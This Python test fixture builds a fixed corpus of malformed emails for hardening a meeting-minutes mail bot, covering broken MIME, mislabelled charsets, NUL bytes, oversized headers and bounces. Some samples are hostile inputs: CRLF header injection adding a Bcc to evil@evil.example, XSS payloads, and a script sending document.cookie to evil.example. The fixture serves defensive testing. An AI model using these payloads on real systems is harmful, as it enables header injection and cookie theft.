"""A hostile corpus: mails built byte by byte to break a mail bot, each with a short id.

`corpus()` returns them in the order they are meant to be fed. Every mail says what the bot owes
its sender (`expect`):

- "human": a person with a readable address wrote; they must get at least one answer (`sender`).
- "machine": an auto-reply, a bounce, a list, the bot itself: never answered.
- "unreadable": no usable sender address (none, a group, NUL in it, longer than RFC 5321 allows):
  recorded, nothing owed.
- "duplicate": the same bytes as an earlier mail: recognised, nothing owed. (The same Message-ID
  from the same sender with other words is a new mail and owed an answer: reply_reuse_*.)

Nothing here is random: the same call returns the same bytes.
"""

from __future__ import annotations

import base64
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Literal

BOT = "minutes@corp.example"
DATE = "Wed, 9 Dec 2026 17:00:00 +0800"
CRLF = b"\r\n"

Expect = Literal["human", "machine", "unreadable", "duplicate"]


@dataclass(frozen=True)
class Hostile:
    id: str
    raw: bytes
    expect: Expect
    sender: str | None = None  # the address the answer must go to ("human")
    note: str = ""


Header = tuple[str, str | bytes]


def header_bytes(name: str, value: str | bytes) -> bytes:
    return name.encode("ascii") + b": " + (value if isinstance(value, bytes) else value.encode("utf-8"))


def assemble(headers: Sequence[Header], body: bytes | str = b"", *, crlf: bool = True) -> bytes:
    """Headers exactly as given (no folding, no encoding), a blank line, the body with CRLF ends."""
    data = body.encode("utf-8") if isinstance(body, str) else body
    if crlf:
        data = data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    return CRLF.join(header_bytes(n, v) for n, v in headers) + CRLF + CRLF + data


def word(text: str | bytes, charset: str = "utf-8") -> str:
    """One RFC 2047 B-encoded word; bytes are taken as already encoded in `charset`."""
    data = text if isinstance(text, bytes) else text.encode(charset)
    return f"=?{charset}?B?{base64.b64encode(data).decode()}?="


def b64_lines(data: bytes) -> bytes:
    encoded = base64.b64encode(data)
    return CRLF.join(encoded[i : i + 76] for i in range(0, len(encoded), 76))


class Corpus:
    def __init__(self) -> None:
        self.mails: list[Hostile] = []
        self.n = 0

    def address(self, mail_id: str, outside: bool | None = None) -> str:
        """A sender of its own per mail (the per-sender limit on error answers must not hide a
        missing answer); every other mail from outside the bot's domain."""
        self.n += 1
        if outside is None:
            outside = self.n % 2 == 0
        local = mail_id.replace("_", ".")
        return f"{local}@{'partner.example' if outside else 'corp.example'}"

    def add(self, mail_id: str, raw: bytes, expect: Expect, sender: str | None = None, note: str = "") -> None:
        assert all(m.id != mail_id for m in self.mails), mail_id
        self.mails.append(Hostile(mail_id, raw, expect, sender.lower() if sender else None, note))

    def mail(
        self,
        mail_id: str,
        body: bytes | str = "你好，请问这个怎么用？",
        *,
        subject: str | bytes | None = None,
        sender: str | None = None,
        outside: bool | None = None,
        name: str | bytes = "测试用户",
        from_header: str | bytes | None = None,
        content_type: str | bytes | None = "text/plain; charset=utf-8",
        cte: str | None = "8bit",
        message_id: str | bytes | None = None,
        date: str = DATE,
        to: str | bytes = BOT,
        extra: Sequence[Header] = (),
        expect: Expect = "human",
        answer_to: str | None = None,
        crlf: bool = True,
        note: str = "",
    ) -> None:
        """One mail with ordinary headers unless told otherwise; None leaves a header out."""
        sender = sender or self.address(mail_id, outside)
        if from_header is None:  # "" leaves From out
            shown = name if isinstance(name, bytes) else name.encode("utf-8")
            from_header = b'"' + shown + b'" <' + sender.encode("utf-8") + b">" if shown else sender
        headers: list[Header] = [("From", from_header)] if from_header else []
        headers.append(("To", to))
        headers.append(("Subject", subject if subject is not None else f"咨询 {mail_id}"))
        headers += [("Date", date), ("Message-ID", message_id or f"<{mail_id}.1@hostile.example>")]
        if content_type is not None:
            headers += [("MIME-Version", "1.0"), ("Content-Type", content_type)]
        if cte is not None and content_type is not None:
            headers.append(("Content-Transfer-Encoding", cte))
        headers += list(extra)
        if expect == "human" and answer_to is None:
            answer_to = sender
        self.add(mail_id, assemble(headers, body, crlf=crlf), expect, answer_to, note)


# --- minutes drafts in the documented format (docs/format.zh.md) --------------------------------


def draft_body(title: str, actions: Sequence[str], *, day: str = "2026-12-08") -> str:
    lines = [
        "各位好，会议纪要初稿如下，请确认。",
        "",
        f"会议名称：{title}",
        f"会议日期：{day}",
        "会议时间：14:00-15:00",
        "主持人：市场部 李娜 <li.na@corp.example>",
        "参会人员：市场部 李娜、张伟；销售部 赵敏",
        "",
        "二、决议事项",
        "1. 按计划推进。",
        "",
        "三、行动项",
        *actions,
        "",
        "谢谢",
    ]
    return "\n".join(lines) + "\n"


def action(task: str, owner: str, due: str = "2026-12-20") -> str:
    return f"- {task}；负责人：{owner}；截止：{due}；交付：报告"


# --- the corpus ---------------------------------------------------------------------------------


def corpus() -> list[Hostile]:
    c = Corpus()
    gbk_text = "各位好：\n附件是本周的数据，请陈喆和朱镕查收。\n".encode("gbk")
    gbk_csv = "序号,任务,负责人,截止\n1,整理数据,陈喆,2026-12-20\n2,核算成本,朱镕,2026-12-25\n".encode("gbk")

    # Broken MIME --------------------------------------------------------------------------------
    c.mail(
        "mime_no_boundary",
        "--xyz\nContent-Type: text/plain; charset=utf-8\n\n状态\n--xyz--\n",
        content_type="multipart/alternative;",
    )
    c.mail(
        "mime_unclosed_boundary",
        "--b1\nContent-Type: text/plain; charset=utf-8\n\n你好\n--b1\nContent-Type: text/html; charset=utf-8\n\n<p>你好",
        content_type='multipart/alternative; boundary="b1"',
    )
    c.mail(
        "mime_boundary_header_only",
        "There is no delimiter line anywhere in this body.\n你好，请问怎么用？\n",
        content_type='multipart/mixed; boundary="never-used-in-body"',
    )
    c.mail(
        "mime_boundary_empty",
        "--\nContent-Type: text/plain\n\nhello\n----\n",
        content_type='multipart/mixed; boundary=""',
    )
    c.mail(
        "mime_boundary_mismatch",
        "--other\nContent-Type: text/plain; charset=utf-8\n\n帮助\n--other--\n",
        content_type='multipart/mixed; boundary="declared"',
    )
    c.mail(
        "mime_truncated_base64",
        b"--t\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.b64encode("你好，这是被截断的正文。".encode() * 4)[:57],
        content_type='multipart/mixed; boundary="t"',
    )
    c.mail("mime_bad_cte", "=E4=BD=A0=E5=A5=BD not really", cte="base65")
    c.mail("mime_garbage_header", "帮助", extra=[("This line has no colon and a \x01 control", "")])
    nested = b"Content-Type: text/plain; charset=utf-8\r\n\r\n\xe6\xb7\xb1\xe5\xa4\x84\xe7\x9a\x84\xe6\xad\xa3\xe6\x96\x87\r\n"
    for level in range(500, 0, -1):
        b = f"n{level}".encode()
        nested = (
            b'Content-Type: multipart/mixed; boundary="'
            + b
            + b'"\r\n\r\n--'
            + b
            + CRLF
            + nested
            + b"\r\n--"
            + b
            + b"--"
        )
    sender = c.address("mime_nested_500")
    c.add(
        "mime_nested_500",
        assemble(
            [
                ("From", f"Deep <{sender}>"),
                ("To", BOT),
                ("Subject", "nested 500"),
                ("Date", DATE),
                ("Message-ID", "<mime_nested_500@hostile.example>"),
                ("MIME-Version", "1.0"),
            ],
            b"",
        ).removesuffix(CRLF + CRLF)
        + CRLF
        + nested
        + CRLF,
        "human",
        sender,
    )
    wide = b"".join(
        b"--w\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Disposition: attachment; filename=p%d.txt\r\n\r\nx\r\n"
        % i
        for i in range(1500)
    )
    c.mail("mime_wide_1500_parts", wide + b"--w--\r\n", content_type='multipart/mixed; boundary="w"')

    # Lying charsets ------------------------------------------------------------------------------
    c.mail("cs_gbk_as_utf8", "你好，请问怎么用？陈喆".encode("gbk"), content_type="text/plain; charset=utf-8")
    c.mail("cs_utf8_as_gb2312", "你好，请问怎么用？😀".encode(), content_type="text/plain; charset=gb2312")
    c.mail("cs_unknown_name", "你好".encode("gbk"), content_type='text/plain; charset="x-klingon-2"')
    c.mail("cs_nul_in_name", "你好", content_type=b'text/plain; charset="utf-8\x00evil"')
    c.mail("cs_name_5000", "hello", content_type=f'text/plain; charset="{"x" * 5000}"')
    c.mail("cs_utf16_on_ascii", "odd length ascii!", content_type="text/plain; charset=utf-16")
    c.mail("cs_subject_unknown_word", subject=word(b"\xc4\xe3\xba\xc3", "x-unknown-cs") + " hi")
    c.mail("cs_subject_gbk_as_utf8_word", subject=word("你好陈喆".encode("gbk"), "utf-8"))
    c.mail("cs_subject_raw_gbk", subject="请问陈喆".encode("gbk"))
    c.mail("cs_name_gbk_as_utf8_word", name=word("张伟".encode("gbk"), "utf-8").encode())

    # NUL bytes ------------------------------------------------------------------------------------
    c.mail("nul_subject", subject=b"hello\x00world \xe4\xbd\xa0\xe5\xa5\xbd")
    c.mail("nul_subject_encoded", subject=word("你好\x00世界"))
    c.mail("nul_message_id", message_id=b"<nul\x00id@hostile.example>")
    c.mail("nul_from_name", name=b"Zhang\x00Wei")
    c.mail("nul_from_name_encoded", name=word("张\x00伟").encode())
    c.mail("nul_body", b"\xe4\xbd\xa0\xe5\xa5\xbd\x00\x00 hello \x00")
    c.mail("nul_body_base64", b64_lines("状态\x00\x00\n".encode()), cte="base64")
    c.mail("nul_in_address", from_header=b"Nul <nul\x00addr@corp.example>", expect="unreadable")

    # Huge headers -------------------------------------------------------------------------------
    # 2 MB of subject: UTF-8 words folded as a client would fold them.
    chunk = "超长主题测试 " * 10  # 70 characters, 200 bytes
    c.mail("huge_subject_2mb", subject="\r\n ".join([chunk] * (2 * 1024 * 1024 // 200)))
    c.mail("huge_message_id_5kb", message_id="<" + "m" * 5000 + "@hostile.example>")
    long_local = "a" * 250
    c.mail(
        "huge_from_over_320",
        from_header=f"Long <{long_local}@{'sub.' * 20}corp.example>",
        expect="unreadable",
        note="address longer than RFC 5321 allows",
    )
    c.mail("huge_to_2000", "状态", to=",\r\n ".join(f"p{i} <p{i}@corp.example>" for i in range(2000)))
    c.mail(
        "huge_references",
        "你好",
        extra=[("References", "\r\n ".join(f"<ref{i}.{'r' * 60}@hostile.example>" for i in range(800)))],
    )
    c.mail("huge_header_count", "帮助", extra=[(f"X-Junk-{i}", "j" * 40) for i in range(5000)])
    c.mail("huge_display_name", name=("名" * 5000).encode())

    # Dates at the edges ------------------------------------------------------------------------
    c.mail("date_9999", "帮助", date="Fri, 31 Dec 9999 23:59:59 +0000")
    c.mail("date_9999_minus12", "帮助", date="Fri, 31 Dec 9999 23:59:59 -1200")
    c.mail("date_0001", "帮助", date="Mon, 01 Jan 0001 00:00:00 +0000")
    c.mail("date_0001_plus14", "帮助", date="Mon, 01 Jan 0001 00:00:00 +1400")
    c.mail(
        "date_9999_minutes",
        draft_body(
            "远未来的会议", [action("安排下一步", "市场部 张伟 <zhang.wei@corp.example>", "下周五")], day="12月31日"
        ),
        subject="【纪要】远未来的会议",
        date="Fri, 31 Dec 9999 20:00:00 +0800",
    )

    # SMTPUTF8 senders (raw UTF-8 in the header) ----------------------------------------------------
    c.mail("smtputf8_corp", "你好", sender="测试@corp.example", name="测试")
    c.mail("smtputf8_outside", "hello, how does this work?", sender="δοκιμή@partner.example", name="Δοκιμή")
    c.mail(
        "smtputf8_owner_draft",
        draft_body("国际化地址会议", [action("测试国际化地址", "测试 <测试@corp.example>")]),
        subject="【纪要】国际化地址会议",
        extra=[("Cc", "测试 <测试@corp.example>")],
    )

    # Minutes drafts naming impossible owners, and oversized drafts ---------------------------------
    c.mail(
        "draft_owner_dotdot_local",
        draft_body("地址校验会议一", [action("整理数据", "张三 <a..b@corp.example>")]),
        subject="【纪要】地址校验会议一",
    )
    c.mail(
        "draft_owner_dotdot_domain",
        draft_body("地址校验会议二", [action("整理数据", "李四 <a@corp..example>")]),
        subject="【纪要】地址校验会议二",
    )
    owners = [f"负责人{i} <owner{i}@corp.example>" for i in range(20)]
    c.mail(
        "draft_1000_actions",
        draft_body("千项行动会议", [action(f"第{n}项：整理第{n}批数据", owners[n % 20]) for n in range(1000)]),
        subject="【纪要】千项行动会议",
        outside=False,
    )
    c.mail(
        "draft_subject_10000",
        draft_body("长主题会议", [action("整理数据", "市场部 张伟 <zhang.wei@corp.example>")]),
        subject="【纪要】" + "长主题" * 3332,
    )
    c.mail(
        "draft_title_3000",
        draft_body("很长的会议名称" * 430, [action("整理数据", "市场部 张伟 <zhang.wei@corp.example>")]),
        subject="【纪要】标题过长的会议",
    )
    c.mail(
        "draft_200_actions",
        draft_body("两百项行动会议", [action(f"第{n}项：核对第{n}批数据", owners[n % 20]) for n in range(200)]),
        subject="【纪要】两百项行动会议",
    )
    c.mail(
        "draft_nul_fields",
        draft_body("空字符\x00会议", [action("整理\x00数据", "市场部 张\x00伟 <zhang.wei@corp.example>")]),
        subject="【纪要】空字符会议",
    )
    c.mail(
        "draft_meeting_9999",
        draft_body(
            "九九九九年会议",
            [
                action("下周的事", "市场部 张伟 <zhang.wei@corp.example>", "下周五"),
                action("工作日的事", "销售部 赵敏 <zhao.min@corp.example>", "3个工作日内"),
                action("月底的事", "市场部 李娜 <li.na@corp.example>", "本月底前"),
            ],
            day="9999-12-31",
        ),
        subject="【纪要】九九九九年会议",
    )
    c.mail(
        "draft_meeting_0001",
        draft_body(
            "公元一年会议",
            [action("很久以前的事", "市场部 张伟 <zhang.wei@corp.example>", "3个工作日内")],
            day="0001-01-01",
        ),
        subject="【纪要】公元一年会议",
    )
    c.mail(
        "draft_title_crlf_html",
        "<p>会议名称：换行&#13;&#10;X-Injected: yes&#13;&#10;标题会议</p><p>会议日期：2026-12-08</p>"
        "<p>主持人：市场部 李娜 &lt;li.na@corp.example&gt;</p><p>三、行动项</p>"
        "<p>- 整理数据；负责人：市场部 张伟 &lt;zhang.wei@corp.example&gt;；截止：2026-12-20</p>",
        subject="【纪要】换行标题会议",
        content_type="text/html; charset=utf-8",
    )
    injected = (
        "<html><body><p>会议名称：注入测试会议</p><p>会议日期：2026-12-08</p>"
        "<p>主持人：市场部 李娜 &lt;li.na@corp.example&gt;</p><p>三、行动项</p>"
        "<table><tr><td>任务</td><td>负责人</td><td>截止</td></tr>"
        "<tr><td>整理数据&#13;&#10;X-Injected: yes</td>"
        "<td>张伟&#13;&#10;X-Injected: yes &lt;zhang.wei@corp.example&gt;</td><td>2026-12-20</td></tr></table>"
        "</body></html>"
    )
    c.mail("draft_html_crlf_owner", injected, subject="【纪要】注入测试会议", content_type="text/html; charset=utf-8")
    c.mail(
        "subject_crlf_encoded",
        "帮助",
        subject=word("你好\r\nX-Injected: yes\r\nBcc: evil@evil.example"),
    )

    # A reply that reuses an earlier Message-ID with another body ------------------------------------
    c.mail("reply_first", "状态", sender="reuse.owner@corp.example", message_id="<reused-1@client.example>")
    c.mail(
        "reply_reuse_mid_same_sender",
        "确认",
        subject="回复：状态",
        sender="reuse.owner@corp.example",
        message_id="<reused-1@client.example>",
        extra=[("In-Reply-To", "<reused-1@client.example>")],
        note="same Message-ID and sender as reply_first, other words: a new mail, not a resend",
    )
    c.mail(
        "reply_reuse_mid_other_sender",
        "确认",
        subject="回复：状态",
        message_id="<reused-1@client.example>",
        extra=[("In-Reply-To", "<reused-1@client.example>")],
    )
    c.mail(
        "reply_reuse_good_mid",
        "确认",
        subject="Re: [Minutes] Q1 Launch Budget Review",
        message_id="<CAJ8x9LbQ2wE4rT6yU8iO0pA1sD3fG5hJ7kL9zX2cV4bN6mQ@mail.gmail.com>",
    )
    c.mail("reply_forged_token", "确认", subject="回复：[#zzzz] 请确认", to="minutes+forgedtoken0000@corp.example")
    c.mail("message_id_200", "帮助", message_id="<" + "l" * 200 + "@hostile.example>")
    c.mail("message_id_990", "帮助", message_id="<" + "k" * 972 + "@hostile.example>")
    c.mail(
        "references_utf8",
        "你好",
        extra=[
            ("In-Reply-To", "<回复标识@hostile.example>".encode()),
            ("References", "<引用@hostile.example>".encode()),
        ],
    )
    c.mail("msgid_utf8", "帮助", message_id="<测试标识@hostile.example>".encode())
    c.mail(
        "in_reply_to_encoded_word",
        "确认",
        subject="回复：请确认",
        extra=[("In-Reply-To", word("<abc@corp.example>")), ("References", word("<def@corp.example>"))],
    )

    # Machines: never answered -----------------------------------------------------------------------
    c.mail(
        "auto_replied_gbk",
        "我正在休假，12月20日返回。".encode("gbk"),
        subject=word("自动答复: 咨询".encode("gbk"), "gb2312"),
        content_type="text/plain; charset=gb2312",
        extra=[("Auto-Submitted", "auto-replied"), ("X-Auto-Response-Suppress", "All")],
        expect="machine",
    )
    c.mail("auto_subject_only", "我不在办公室。", subject="自动回复：我不在办公室", expect="machine")
    c.mail("auto_x_autoreply", "Away.", subject="Away", extra=[("X-Autoreply", "yes")], expect="machine")
    c.mail("auto_precedence_bulk", "Sale!", subject="Sale", extra=[("Precedence", "bulk")], expect="machine")
    c.mail("auto_list_id", "digest", subject="digest", extra=[("List-Id", "<news.partner.example>")], expect="machine")
    c.mail(
        "auto_submitted_encoded",
        "Away until Monday.",
        subject="Re: 咨询",
        extra=[("Auto-Submitted", "=?us-ascii?Q?auto-replied?=")],
        expect="machine",
    )
    c.mail(
        "auto_replied_nul",
        b"away\x00",
        subject=b"Out of Office\x00",
        extra=[("Auto-Submitted", b"auto-replied\x00")],
        expect="machine",
    )
    dsn = (
        "--r1\nContent-Type: text/plain; charset=us-ascii\n\nThis is the mail system. Your mail could not be delivered.\n"
        "--r1\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; mx.partner.example\n\n"
        "Final-Recipient: rfc822; nobody@partner.example\nAction: failed\nStatus: 5.1.1\n"
        "--r1\nContent-Type: text/rfc822-headers\n\nMessage-ID: <not-ours@corp.example>\nSubject: hi\n--r1--\n"
    )
    c.mail(
        "dsn_report",
        dsn,
        sender="MAILER-DAEMON@mx.partner.example",
        name="Mail Delivery System",
        subject="Undelivered Mail Returned to Sender",
        content_type='multipart/report; report-type=delivery-status; boundary="r1"',
        cte=None,
        expect="machine",
    )
    c.mail(
        "dsn_postmaster_gbk",
        "您发送的邮件无法送达。".encode("gbk"),
        sender="postmaster@corp.example",
        name="系统管理员",
        subject="系统退信".encode("gbk"),
        content_type="text/plain; charset=utf-8",
        expect="machine",
    )
    c.mail(
        "dsn_no_boundary",
        dsn,
        sender="mailer-daemon@mx2.partner.example",
        subject="failure notice",
        content_type="multipart/report; report-type=delivery-status",
        cte=None,
        expect="machine",
    )
    c.mail("noreply_sender", "Your order shipped.", sender="noreply@partner.example", expect="machine")
    c.mail("own_address", "帮助", sender=BOT, name="Mailbot", expect="machine")
    c.mail("own_plus_address", "帮助", sender="minutes+abc123@corp.example", expect="machine")
    c.mail("own_header_loop", "帮助", extra=[("X-Mailbot-Kind", "help")], expect="machine")
    c.mail("no_from", "帮助", from_header="", expect="unreadable")
    c.mail("from_group_empty", "帮助", from_header="undisclosed-recipients:;", expect="unreadable")

    # Attachments: GBK csv, only attachments ---------------------------------------------------------
    c.mail(
        "csv_gbk_base64",
        b"--a\r\nContent-Type: text/plain; charset=gbk\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + b64_lines(gbk_text)
        + b'\r\n--a\r\nContent-Type: text/csv; charset=gbk; name="data.csv"\r\nContent-Transfer-Encoding: base64\r\n'
        + b'Content-Disposition: attachment; filename="data.csv"\r\n\r\n'
        + b64_lines(gbk_csv)
        + b"\r\n--a--\r\n",
        content_type='multipart/mixed; boundary="a"',
        cte=None,
    )
    c.mail(
        "csv_gbk_labelled_utf8",
        b"--a\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\xe4\xbd\xa0\xe5\xa5\xbd\r\n"
        + b'--a\r\nContent-Type: text/csv; charset=utf-8\r\nContent-Disposition: attachment; filename="data.csv"\r\n\r\n'
        + gbk_csv
        + b"\r\n--a--\r\n",
        content_type='multipart/mixed; boundary="a"',
        cte=None,
    )
    c.mail(
        "csv_gbk_only",
        b"--a\r\nContent-Type: text/csv\r\nContent-Disposition: attachment; filename*=gbk''%CA%FD%BE%DD.csv\r\n"
        + b"Content-Transfer-Encoding: base64\r\n\r\n"
        + b64_lines(gbk_csv)
        + b"\r\n--a--\r\n",
        content_type='multipart/mixed; boundary="a"',
        cte=None,
    )
    c.mail(
        "only_pdf",
        b'--a\r\nContent-Type: application/pdf; name="x.pdf"\r\nContent-Disposition: attachment; filename="x.pdf"\r\n'
        + b"Content-Transfer-Encoding: base64\r\n\r\n"
        + b64_lines(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + bytes(range(256)) * 4)
        + b"\r\n--a--\r\n",
        content_type='multipart/mixed; boundary="a"',
        cte=None,
    )
    inner = draft_body("附件里的纪要", [action("整理数据", "市场部 张伟 <zhang.wei@corp.example>")])
    c.mail(
        "only_rfc822",
        b"--a\r\nContent-Type: message/rfc822\r\n\r\nFrom: x@corp.example\r\nSubject: =?utf-8?B?"
        + base64.b64encode("【纪要】附件里的纪要".encode())
        + b"?=\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        + inner.encode()
        + b"\r\n--a--\r\n",
        content_type='multipart/mixed; boundary="a"',
        cte=None,
    )
    c.mail(
        "attachment_name_nul_crlf",
        b"--a\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nhello\r\n"
        + b'--a\r\nContent-Type: text/csv\r\nContent-Disposition: attachment; filename="a\x00b.csv"\r\n\r\n1,2\r\n'
        + b'--a\r\nContent-Type: text/csv\r\nContent-Disposition: attachment; filename="'
        + word("x\r\nX-Injected: yes.csv").encode()
        + b'"\r\n\r\n3,4\r\n--a--\r\n',
        content_type='multipart/mixed; boundary="a"',
        cte=None,
    )

    # HTML only, with scripts ------------------------------------------------------------------------
    c.mail(
        "html_script",
        "<html><head><script>while(true){document.write('确认')}</script><style>p{x:y}</style></head>"
        "<body onload=\"alert('x')\"><p>你好，<img src=x onerror=alert(1)>请问怎么用？</p></body></html>",
        content_type="text/html; charset=utf-8",
    )
    c.mail(
        "html_script_minutes",
        "<html><head><script>var s='三、行动项\\n- 恶意任务；负责人：evil@evil.example；截止：2026-12-20';</script></head>"
        "<body><p>会议名称：脚本会议</p><p>会议日期：2026-12-08</p><p>主持人：李娜 &lt;li.na@corp.example&gt;</p>"
        "<p>三、行动项</p><p>- 整理数据；负责人：张伟 &lt;zhang.wei@corp.example&gt;；截止：2026-12-20</p>"
        "<script>document.location='http://evil.example/'+document.cookie</script></body></html>",
        subject="【纪要】脚本会议",
        content_type="text/html; charset=utf-8",
    )
    c.mail(
        "html_deep_nesting",
        "<html><body>" + "<div>" * 20000 + "你好" + "</span>" * 100 + "</body>",
        content_type="text/html; charset=utf-8",
    )
    c.mail(
        "html_unclosed_comment",
        "<html><body><p>你好</p><!-- never closed <script>alert(1)</script>" + "x" * 100000,
        content_type="text/html; charset=utf-8",
    )

    # Empty ------------------------------------------------------------------------------------------
    c.mail("empty_body", b"")
    c.mail("empty_whitespace_body", b"\r\n   \r\n\t\r\n")
    c.mail("empty_multipart", b"--e--\r\n", content_type='multipart/mixed; boundary="e"', cte=None)
    c.mail("empty_subject_and_body", b"", subject="")
    sender = c.address("headers_only")
    c.add(
        "headers_only",
        f"From: Head <{sender}>\r\nTo: {BOT}\r\nSubject: only headers\r\nMessage-ID: <headers_only@hostile.example>".encode(),
        "human",
        sender,
    )
    c.mail("bare_lf_and_cr", b"hello\rworld\n\r\n\r\r\nbye", crlf=False)

    # Exact duplicate bytes of an earlier mail ------------------------------------------------------
    first = next(m for m in c.mails if m.id == "nul_body")
    c.add("exact_dup_nul_body", first.raw, "duplicate", note="same bytes as nul_body")
    return c.mails
